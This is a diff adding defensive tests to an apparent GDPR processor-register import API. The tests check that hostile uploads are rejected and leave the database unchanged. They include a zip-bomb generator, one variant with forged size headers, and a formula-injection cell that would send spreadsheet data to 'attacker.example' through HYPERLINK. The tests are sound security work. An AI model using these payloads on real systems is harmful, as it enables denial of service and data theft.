@@ -230,3 +230,235 @@ describe('an ICO-layout record of processing under Finnish headings', () => {
     for (const e of events) expect(e.requestId).toBe(`import:${res.body.id}`)
   })
 })
+
+/** A zip whose one entry (named like a workbook part) is `size` zero bytes, deflated: a small file that expands enormously. */
+function zipBomb(size: number, lie = false): Uint8Array {
+  const out = python<{ b64: string }>(
+    `
+import base64, io, json, struct, sys, zipfile
+n, lie = json.loads(sys.stdin.read())
+buf = io.BytesIO()
+with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
+    z.writestr('[Content_Types].xml', '<Types/>')
+    with z.open('xl/worksheets/sheet1.xml', 'w', force_zip64=False) as f:
+        chunk = b'0' * (1024 * 1024)
+        for _ in range(n // len(chunk)):
+            f.write(chunk)
+data = bytearray(buf.getvalue())
+if lie:
+    # Both headers of the big entry claim it holds 100 bytes.
+    for sig, offset in ((b'PK\x03\x04', 22), (b'PK\x01\x02', 24)):
+        at = 0
+        while (at := data.find(sig, at)) >= 0:
+            name_at = at + (30 if sig == b'PK\x03\x04' else 46)
+            if data[name_at:name_at + 5] == b'xl/wo':
+                struct.pack_into('<I', data, at + offset, 100)
+            at += 4
+print(json.dumps({'b64': base64.b64encode(bytes(data)).decode()}))
+`,
+    JSON.stringify([size, lie]),
+  )
+  return new Uint8Array(Buffer.from(out.b64, 'base64'))
+}
+
+describe('hostile and broken files: a clear 4xx, and the database byte for byte unchanged', () => {
+  const csvProcessors = (lines: string[]) => ['Name,Role,Country', ...lines].join('\r\n') + '\r\n'
+
+  /** Runs `attempt` (an upload and, when it is accepted, a commit) and checks the database image did not change. */
+  async function unchanged(ctx: Awaited<ReturnType<typeof createTestContext>>, attempt: () => Promise<void>) {
+    await ctx.api.get('/api/health')
+    const image = ctx.db.$client.serialize()
+    await attempt()
+    expect(Buffer.compare(image, ctx.db.$client.serialize()), 'the database changed').toBe(0)
+  }
+
+  it('a file over the size limit is a 413 before it is parsed', async () => {
+    const ctx = await createTestContext({ demo: true })
+    await unchanged(ctx, async () => {
+      const big = new Uint8Array(2 * 1024 * 1024 + 10).fill(0x41)
+      const res = await upload(ctx.api, 'big.csv', big)
+      expect(res.status).toBe(413)
+      expect(res.body.error.code).toBe('payload_too_large')
+      const huge = await upload(ctx.api, 'huge.csv', new Uint8Array(3 * 1024 * 1024).fill(0x41))
+      expect(huge.status).toBe(413)
+    })
+  })
+
+  it('too many rows is a 400 that says the limit', async () => {
+    const ctx = await createTestContext({ demo: true })
+    await unchanged(ctx, async () => {
+      const res = await upload(ctx.api, 'many.csv', csvProcessors(Array.from({ length: 2001 }, (_, i) => `Vendor ${i},processor,FI`)))
+      expect(res.status).toBe(400)
+      expect(res.body.error.fields[0]).toMatchObject({ path: 'file', message: expect.stringMatching(/more than 2000 rows/) })
+    })
+  })
+
+  it('zip bombs, a zip that is not a workbook and a file that is not a zip at all are 400s with a message', async () => {
+    const ctx = await createTestContext({ demo: true })
+    // Exporting is audited: done before the database image is taken.
+    const truncated = (await ctx.api.get('/api/exports/processors.xlsx?lang=en')).bytes.slice(0, 3000)
+    await unchanged(ctx, async () => {
+      const bomb = zipBomb(200 * 1024 * 1024)
+      expect(bomb.byteLength).toBeLessThan(2 * 1024 * 1024)
+      const res = await upload(ctx.api, 'bomb.xlsx', bomb)
+      expect(res.status).toBe(400)
+      expect(res.body.error.fields[0].message).toMatch(/zip bomb/)
+      const ratio = await upload(ctx.api, 'ratio.xlsx', zipBomb(20 * 1024 * 1024))
+      expect(ratio.status).toBe(400)
+      expect(ratio.body.error.fields[0].message).toMatch(/zip bomb/)
+      const liar = await upload(ctx.api, 'liar.xlsx', zipBomb(20 * 1024 * 1024, true))
+      expect(liar.status).toBe(400)
+      expect(liar.body.error.fields[0].message).toMatch(/more than it declares/)
+      const notZip = await upload(ctx.api, 'report.xlsx', 'Name,Role\r\nA,processor\r\n')
+      expect(notZip.status).toBe(400)
+      expect(notZip.body.error.fields[0].message).toMatch(/not a zip/)
+      const damaged = await upload(ctx.api, 'damaged.xlsx', truncated)
+      expect(damaged.status).toBe(400)
+      expect(damaged.body.error.fields[0].message).toMatch(/damaged|cannot be read/)
+      const pdf = await upload(ctx.api, 'register.pdf', '%PDF-1.7')
+      expect(pdf.status).toBe(400)
+      expect(pdf.body.error.fields[0].message).toMatch(/\.xlsx workbook or a \.csv/)
+    })
+  })
+
+  it('formulas are never calculated: a saved value is read as the value, a formula without one is an error on its cell', async () => {
+    const ctx = await createTestContext({ demo: true })
+    const ExcelJS = (await import('exceljs')).default
+    const wb = new ExcelJS.Workbook()
+    const ws = wb.addWorksheet('Vendors')
+    ws.addRow(['Name', 'Role', 'Country'])
+    ws.addRow([{ formula: 'CONCATENATE("Cal","culated")', result: 'Saved Value Oy' }, 'processor', 'FI'])
+    const saved = new Uint8Array(await wb.xlsx.writeBuffer())
+    const res = await upload(ctx.api, 'saved.xlsx', saved)
+    expect(res.status, JSON.stringify(res.body)).toBe(201)
+    expect(res.body.rows).toEqual([expect.objectContaining({ name: 'Saved Value Oy', status: 'create' })])
+
+    // openpyxl writes formulas with no saved value, as a hand-made workbook often has them.
+    const unsaved = xlsxOf([
+      ['Name', 'Role', 'Country'],
+      ['=HYPERLINK("http://attacker.example/?"&A3,"x")', 'processor', 'FI'],
+      ['Plain Oy', 'processor', 'FI'],
+    ])
+    await unchanged(ctx, async () => {
+      const up = await upload(ctx.api, 'formulas.xlsx', unsaved)
+      expect(up.status, JSON.stringify(up.body)).toBe(201)
+      expect(up.body.rows[0]).toMatchObject({ row: 2, status: 'error', problems: [expect.objectContaining({ row: 2, column: 'Name', message: expect.stringMatching(/formula with no saved value/) })] })
+      expect(up.body.rows[1]).toMatchObject({ status: 'create' })
+      const commit = await ctx.api.post(`/api/imports/${up.body.id}/commit`)
+      expect(commit.status).toBe(400)
+      expect(commit.body.error.message).toMatch(/nothing was imported/)
+    })
+  })
+
+  it('CSV: NUL bytes and ragged rows are 400s naming the problem; a byte order mark is read as one', async () => {
+    const ctx = await createTestContext({ demo: true })
+    await unchanged(ctx, async () => {
+      const nul = await upload(ctx.api, 'nul.csv', csvProcessors(['A\u0000B,processor,FI']))
+      expect(nul.status).toBe(400)
+      expect(nul.body.error.fields[0].message).toMatch(/NUL/)
+      const ragged = await upload(ctx.api, 'ragged.csv', csvProcessors(['A Oy,processor,FI', 'B Oy,processor']))
+      expect(ragged.status).toBe(400)
+      expect(ragged.body.error.fields[0].message).toMatch(/Line 3 .* different number of fields/)
+      const latin1 = await upload(ctx.api, 'latin1.csv', new Uint8Array([0x4e, 0x61, 0x6d, 0x65, 0x0d, 0x0a, 0xe4, 0x0d, 0x0a]))
+      expect(latin1.status).toBe(400)
+      expect(latin1.body.error.fields[0].message).toMatch(/not UTF-8/)
+    })
+    const bom = await upload(ctx.api, 'bom.csv', '\uFEFF' + csvProcessors(['Bom Oy,processor,Suomi']))
+    expect(bom.status).toBe(201)
+    expect(bom.body.columns[0]).toMatchObject({ header: 'Name', field: 'displayName' })
+    expect(bom.body.rows).toEqual([expect.objectContaining({ name: 'Bom Oy', status: 'create' })])
+  })
+
+  it('unknown columns are left out and shown; a file with no known heading is a 400', async () => {
+    const ctx = await createTestContext({ demo: true })
+    const res = await upload(ctx.api, 'extra.csv', 'Name;Role;Shoe size\r\nExtra Oy;processor;42\r\n')
+    expect(res.status).toBe(201)
+    expect(res.body.columns).toEqual([
+      expect.objectContaining({ header: 'Name', field: 'displayName' }),
+      expect.objectContaining({ header: 'Role', field: 'role' }),
+      expect.objectContaining({ header: 'Shoe size', field: null, note: null }),
+    ])
+    await unchanged(ctx, async () => {
+      const none = await upload(ctx.api, 'none.csv', 'Foo,Bar\r\n1,2\r\n')
+      expect(none.status).toBe(400)
+      expect(none.body.error.fields[0].message).toMatch(/No column heading/)
+      const badMapping = await ctx.api.request('PUT', `/api/imports/${res.body.id}/mapping`, { target: 'processors', language: 'en', columns: ['displayName', 'role', 'shoeSize'] })
+      expect(badMapping.status).toBe(400)
+      expect(badMapping.body.error.fields).toEqual([{ path: 'columns.2', message: expect.stringMatching(/not a field/) }])
+      const extraKey = await ctx.api.request('PUT', `/api/imports/${res.body.id}/mapping`, { target: 'processors', language: 'en', columns: ['displayName', 'role', null], sneaky: true })
+      expect(extraKey.status).toBe(400)
+      expect(extraKey.body.error.fields[0].path).toBe('sneaky')
+    })
+  })
+
+  it('bad values are errors naming row, column and problem; commit refuses them all; a value mapping fixes them', async () => {
+    const ctx = await createTestContext({ demo: true })
+    const res = await upload(ctx.api, 'vendors.csv', csvProcessors(['Good Oy,processor,Suomi', 'Space Oy,astronaut,Mars', ',processor,FI']))
+    expect(res.status).toBe(201)
+    expect(res.body.rows.map((r: { status: string }) => r.status)).toEqual(['create', 'error', 'error'])
+    expect(res.body.rows[1].problems).toEqual([
+      { row: 3, column: 'Role', field: 'role', message: expect.stringMatching(/"astronaut" is not one of the values of Role/) },
+      { row: 3, column: 'Country', field: 'hqCountry', message: expect.stringMatching(/"Mars" is not a country/) },
+    ])
+    expect(res.body.rows[2].problems).toEqual([expect.objectContaining({ row: 4, column: 'Name', field: 'displayName' })])
+    expect(res.body.columns[1].unmatchedValues).toEqual(['astronaut'])
+    expect(res.body.columns[2].unmatchedValues).toEqual(['Mars'])
+    await unchanged(ctx, async () => {
+      const commit = await ctx.api.post(`/api/imports/${res.body.id}/commit`)
+      expect(commit.status).toBe(400)
+      expect(commit.body.error.fields.map((f: { path: string }) => f.path)).toEqual(['rows.3.Role', 'rows.3.Country', 'rows.4.Name'])
+    })
+    const mapped = await ctx.api.request('PUT', `/api/imports/${res.body.id}/mapping`, {
+      target: 'processors',
+      language: 'en',
+      columns: ['displayName', 'role', 'hqCountry'],
+      values: [{ field: 'role', raw: 'astronaut', value: 'sub_processor' }, { field: 'hqCountry', raw: 'Mars', value: 'US' }],
+    })
+    expect(mapped.status).toBe(200)
+    expect(mapped.body.rows.map((r: { status: string }) => r.status)).toEqual(['create', 'create', 'error'])
+    expect(mapped.body.columns[1].unmatchedValues).toEqual([])
+  })
+})
+
+describe('versions and roles', () => {
+  it('a row whose record changed after the export is a conflict, and committing writes nothing', async () => {
+    const ctx = await createTestContext({ demo: true })
+    const exported = await ctx.api.get('/api/exports/processors.csv?lang=en')
+    const list = (await ctx.api.get('/api/processors?pageSize=100')).body.items as { id: number; displayName: string; version: number }[]
+    const slack = list.find((p) => p.displayName === 'Slack')!
+    const current = (await ctx.api.get(`/api/processors/${slack.id}`)).body
+    expect((await ctx.api.patch(`/api/processors/${slack.id}`, { version: current.version, legalName: 'Slack Technologies Ltd' })).status).toBe(200)
+    const edited = exported.text.replace(/^(.*,Slack,)([^,]*)/m, '$1Slack Tech Edited')
+    expect(edited).not.toBe(exported.text)
+    const res = await upload(ctx.api, 'stale.csv', edited)
+    expect(res.status).toBe(201)
+    const row = res.body.rows.find((r: { recordId: number }) => r.recordId === slack.id)
+    expect(row).toMatchObject({ status: 'conflict', problems: [expect.objectContaining({ column: 'Version', message: expect.stringMatching(/changed after this file was exported/) })] })
+    const image = ctx.db.$client.serialize()
+    const commit = await ctx.api.post(`/api/imports/${res.body.id}/commit`)
+    expect(commit.status).toBe(409)
+    expect(commit.body.error.code).toBe('version_conflict')
+    expect(Buffer.compare(image, ctx.db.$client.serialize())).toBe(0)
+    expect((await ctx.api.get(`/api/processors/${slack.id}`)).body.legalName).toBe('Slack Technologies Ltd')
+  })
+
+  it('auditors and editors get 403; another administrator cannot see or commit your import', async () => {
+    const ctx = await createTestContext({ demo: true })
+    const file = 'Name,Role\r\nRole Test Oy,processor\r\n'
+    for (const role of ['auditor', 'editor'] as const) {
+      const client = await ctx.as(role)
+      const res = await upload(client, 'x.csv', file)
+      expect(res.status).toBe(403)
+      expect(res.body.error.code).toBe('forbidden')
+    }
+    const mine = await upload(ctx.api, 'x.csv', file)
+    expect(mine.status).toBe(201)
+    const auditor = await ctx.as('auditor')
+    expect((await auditor.get(`/api/imports/${mine.body.id}`)).status).toBe(403)
+    expect((await auditor.post(`/api/imports/${mine.body.id}/commit`)).status).toBe(403)
+    const otherAdmin = await ctx.as('admin')
+    expect((await otherAdmin.get(`/api/imports/${mine.body.id}`)).status).toBe(404)
+    expect((await otherAdmin.post(`/api/imports/${mine.body.id}/commit`)).status).toBe(404)
+    expect(count(ctx.db, "SELECT count(*) FROM processors WHERE display_name = 'Role Test Oy'")).toBe(0)
+  })
+})
